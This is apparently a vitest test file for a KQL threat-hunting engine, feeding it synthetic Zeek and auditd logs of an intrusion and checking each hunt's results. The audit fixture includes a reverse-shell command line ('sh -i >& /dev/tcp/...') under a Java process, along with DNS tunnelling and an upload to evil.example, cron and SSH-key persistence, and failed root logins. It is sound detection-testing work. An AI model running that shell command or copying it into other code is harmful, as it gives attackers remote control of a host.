import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { startTestIngest } from '../ingest/fixture.js';
import { answer, load, type Row } from './recordings.js';

/** Incidents on the wire and on Linux, as hunts find them whoever wrote the records. */

const seconds = 1767607872;
const hex = (text: string) => Buffer.from(text).toString('hex').toUpperCase();

type Fields = Readonly<Record<string, string | number | boolean>>;
type ZeekRecord = readonly [log: string, fields: Fields];

const ends = (port: number, remote: string, remotePort: number): Fields => ({
  ...{ 'id.orig_h': '10.0.0.5', 'id.orig_p': port, 'id.resp_h': remote, 'id.resp_p': remotePort },
});

const wire: readonly ZeekRecord[] = [
  ...[0, 60, 120, 180].map(
    (after, index): ZeekRecord => [
      'conn',
      {
        ...{ ts: seconds + after, uid: `C${index}`, ...ends(50000 + index, '198.51.100.7', 443) },
        ...{ proto: 'tcp', service: 'ssl', conn_state: 'SF', orig_bytes: 512, resp_bytes: 128 },
      },
    ],
  ),
  [
    'conn',
    {
      ...{ ts: seconds, uid: 'C9', ...ends(50100, '198.51.100.8', 22) },
      ...{ proto: 'tcp', conn_state: 'REJ' },
    },
  ],
  ...['a', 'b', 'c'].map(
    (label, index): ZeekRecord => [
      'dns',
      {
        ...{ ts: seconds + index, uid: `D${index}`, ...ends(50200 + index, '10.0.0.1', 53) },
        ...{ proto: 'udp', trans_id: 5, query: `${label.repeat(50)}.evil.example` },
        ...{ qtype: 16, qtype_name: 'TXT', rcode: 0, rcode_name: 'NOERROR', rejected: false },
      },
    ],
  ),
  [
    'ssl',
    {
      ...{ ts: seconds, uid: 'S1', ...ends(50300, '198.51.100.7', 443), version: 'TLSv12' },
      ...{ server_name: 'cdn.example', established: true, resumed: false, ja3: 'a0e9f5d6' },
    },
  ],
  [
    'http',
    {
      ...{ ts: seconds, uid: 'H1', ...ends(50400, '198.51.100.9', 8080), trans_depth: 1 },
      ...{ method: 'POST', host: 'evil.example', uri: '/upload', user_agent: 'curl/8' },
      status_code: 200,
    },
  ],
];

interface Hunt {
  readonly name: string;
  readonly kql: string;
  readonly wanted: readonly Row[];
}

const wireHunts: readonly Hunt[] = [
  {
    name: 'a beacon',
    kql: `DeviceNetworkEvents | where ActionType == "ConnectionSuccess" and RemoteIPType == "Public"
      | sort by RemoteIP asc, Timestamp asc
      | extend Gap = iff(prev(RemoteIP) == RemoteIP, datetime_diff("second", Timestamp, prev(Timestamp)), long(null))
      | summarize Connections = count(), Gaps = make_set(Gap) by LocalIP, RemoteIP, RemotePort | where Connections > 3`,
    wanted: [
      {
        LocalIP: '10.0.0.5',
        RemoteIP: '198.51.100.7',
        RemotePort: 443,
        Connections: 4,
        Gaps: [60],
      },
    ],
  },
  {
    name: 'a tunnel of names',
    kql: `DeviceNetworkEvents | where ActionType == "DnsConnectionInspected"
      | extend A = parse_json(AdditionalFields), Name = tostring(parse_json(AdditionalFields).query)
      | where strlen(Name) > 50 and tostring(A.qtype_name) == "TXT"
      | summarize Names = dcount(Name) by LocalIP, Protocol`,
    wanted: [{ LocalIP: '10.0.0.5', Protocol: 'Udp', Names: 3 }],
  },
  {
    name: 'a fingerprint of TLS',
    kql: `DeviceNetworkEvents | where ActionType == "SslConnectionInspected"
      | where tostring(parse_json(AdditionalFields).ja3) == "a0e9f5d6" | project RemoteUrl, RemotePort`,
    wanted: [{ RemoteUrl: 'cdn.example', RemotePort: 443 }],
  },
  {
    name: 'an upload',
    kql: `DeviceNetworkEvents | where ActionType == "HttpConnectionInspected"
      | extend A = parse_json(AdditionalFields) | where tostring(A.method) == "POST"
      | project RemoteUrl, Uri = tostring(A.uri), Agent = tostring(A.user_agent)`,
    wanted: [{ RemoteUrl: 'evil.example', Uri: '/upload', Agent: 'curl/8' }],
  },
  {
    name: 'a refused connection',
    kql: `DeviceNetworkEvents | where ActionType == "ConnectionFailed" | project RemoteIP, RemotePort`,
    wanted: [{ RemoteIP: '198.51.100.8', RemotePort: 22 }],
  },
];

function tsv(records: readonly ZeekRecord[]): string {
  return [...new Set(records.map(([log]) => log))]
    .flatMap((log) => {
      const own = records.filter(([other]) => other === log).map(([, fields]) => fields);
      const names = [...new Set(own.flatMap((fields) => Object.keys(fields)))];
      const cell = (value: Fields[string] | undefined) =>
        value === undefined ? '-' : typeof value === 'boolean' ? (value ? 'T' : 'F') : value;
      const types = names.map((name) => (typeof own[0]?.[name] === 'boolean' ? 'bool' : 'string'));
      return [
        '#separator \\x09',
        '#unset_field\t-',
        `#path\t${log}`,
        `#fields\t${names.join('\t')}`,
        `#types\t${types.join('\t')}`,
        ...own.map((fields) => names.map((name) => cell(fields[name])).join('\t')),
      ];
    })
    .join('\n');
}

const lines = (records: readonly object[]) =>
  records.map((each) => JSON.stringify(each)).join('\n');

const wireShapes: Readonly<Record<string, string>> = {
  'zeek-json': lines(wire.map(([log, fields]) => ({ _path: log, ...fields }))),
  'zeek-tsv': tsv(wire),
  'zeek-filebeat': lines(
    wire.map(([log, fields]) => ({
      '@timestamp': '2026-01-05T10:11:12.000Z',
      log: { file: { path: `/opt/zeek/logs/current/${log}.log` } },
      message: JSON.stringify(fields),
    })),
  ),
};

const call = (serial: number, number: number, pid: number, ppid: number, exe: string, uid = 0) => [
  `type=SYSCALL msg=audit(${seconds}.400:${serial}): arch=c000003e syscall=${number} success=yes exit=3 a0=3 a1=241 a2=241 items=2 ppid=${ppid} pid=${pid} auid=1000 uid=${uid} gid=0 euid=0 tty=pts0 ses=3 comm="x" exe="${exe}" key="lab"\u001dUID="${uid === 0 ? 'root' : 'tomcat'}" AUID="bob"`,
];
const program = (
  serial: number,
  pid: number,
  ppid: number,
  exe: string,
  args: string[],
  uid = 0,
) => [
  ...call(serial, 59, pid, ppid, exe, uid),
  `type=EXECVE msg=audit(${seconds}.400:${serial}): argc=${args.length} ${args
    .map((arg, index) => `a${index}=${/\s/.test(arg) ? hex(arg) : `"${arg}"`}`)
    .join(' ')}`,
  `type=CWD msg=audit(${seconds}.400:${serial}): cwd="/tmp"`,
];

const audit: readonly string[] = [
  ...program(1, 200, 100, '/usr/bin/java', ['java', '-jar', 'app.jar'], 1001),
  ...program(2, 201, 200, '/usr/bin/bash', ['bash', '-c', 'sh -i >& /dev/tcp/1 0>&1'], 1001),
  ...call(3, 42, 201, 200, '/usr/bin/bash', 1001),
  `type=SOCKADDR msg=audit(${seconds}.400:3): saddr=0200115CC63364070000000000000000`,
  ...program(4, 202, 201, '/usr/bin/sudo', ['sudo', '-i']),
  ...call(5, 257, 202, 201, '/usr/bin/tee'),
  `type=CWD msg=audit(${seconds}.400:5): cwd="/root"`,
  `type=PATH msg=audit(${seconds}.400:5): item=0 name="/etc/cron.d/" nametype=PARENT`,
  `type=PATH msg=audit(${seconds}.400:5): item=1 name="/etc/cron.d/evil" nametype=CREATE`,
  ...call(6, 257, 202, 201, '/usr/bin/tee'),
  `type=PATH msg=audit(${seconds}.400:6): item=0 name="/root/.ssh/authorized_keys" nametype=NORMAL`,
  `type=USER_AUTH msg=audit(${seconds}.500:7): pid=9 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication acct="root" exe="/usr/sbin/sshd" hostname=? addr=198.51.100.7 terminal=ssh res=failed'`,
];

const linuxHunts: readonly Hunt[] = [
  {
    name: 'a shell below a web application',
    kql: `DeviceProcessEvents | where InitiatingProcessFileName == "java" and FileName in ("bash", "sh")
      | project ProcessCommandLine, AccountName, InitiatingProcessCommandLine`,
    wanted: [
      {
        ProcessCommandLine: 'bash -c sh -i >& /dev/tcp/1 0>&1',
        AccountName: 'tomcat',
        InitiatingProcessCommandLine: 'java -jar app.jar',
      },
    ],
  },
  {
    name: 'a shell that calls home',
    kql: `DeviceNetworkEvents | where ActionType == "ConnectionSuccess" and InitiatingProcessFileName == "bash"
      | project RemoteIP, RemotePort, RemoteIPType, InitiatingProcessCommandLine, InitiatingProcessParentFileName`,
    wanted: [
      {
        RemoteIP: '198.51.100.7',
        RemotePort: 4444,
        RemoteIPType: 'Public',
        InitiatingProcessCommandLine: 'bash -c sh -i >& /dev/tcp/1 0>&1',
        InitiatingProcessParentFileName: 'java',
      },
    ],
  },
  {
    name: 'sudo',
    kql: `DeviceProcessEvents | where FileName == "sudo"
      | project AccountName, InitiatingProcessId, Login = tostring(parse_json(AdditionalFields).auid)`,
    wanted: [{ AccountName: 'root', InitiatingProcessId: 201, Login: '1000' }],
  },
  {
    name: 'persistence by cron and keys',
    kql: `DeviceFileEvents | where FolderPath startswith "/etc/cron" or FileName == "authorized_keys"
      | project ActionType, FolderPath, InitiatingProcessId | order by ActionType asc`,
    wanted: [
      { ActionType: 'FileCreated', FolderPath: '/etc/cron.d/evil', InitiatingProcessId: 202 },
      {
        ActionType: 'FileModified',
        FolderPath: '/root/.ssh/authorized_keys',
        InitiatingProcessId: 202,
      },
    ],
  },
  {
    name: 'failed logins from outside',
    kql: `DeviceLogonEvents | where ActionType == "LogonFailed" and RemoteIPType == "Public"
      | project AccountName, RemoteIP, InitiatingProcessFileName`,
    wanted: [{ AccountName: 'root', RemoteIP: '198.51.100.7', InitiatingProcessFileName: 'sshd' }],
  },
];

const linuxShapes: Readonly<Record<string, string>> = {
  'audit-log': audit.join('\n'),
  'audit-syslog': audit
    .map((text) => `<13>Jan  5 10:11:12 web01 audispd: node=web01.lab ${text}`)
    .join('\n'),
  'audit-json': lines(audit.map((message) => ({ message, host: { hostname: 'web01.lab' } }))),
};

describe.each([
  ['on the wire', wireShapes, wireHunts],
  ['on Linux', linuxShapes, linuxHunts],
] as const)('%s', async (_, shapes, hunts) => {
  const started = startTestIngest();
  describe.each(Object.entries(shapes))('%s', (shape, content) => {
    let loaded: Promise<unknown> | undefined;
    it.each(hunts.map((hunt) => [hunt.name, hunt] as const))(
      '%s',
      { timeout: 120_000 },
      async (_name, { kql, wanted }) => {
        const test = await started;
        loaded ??= (async () => {
          const file = path.join(test.directory, `${shape}.log`);
          writeFileSync(file, `${content}\n`);
          await load(test, shape, [file]);
        })();
        await loaded;
        expect(await answer(test.engine, shape, kql)).toEqual(wanted);
      },
    );
  });
});
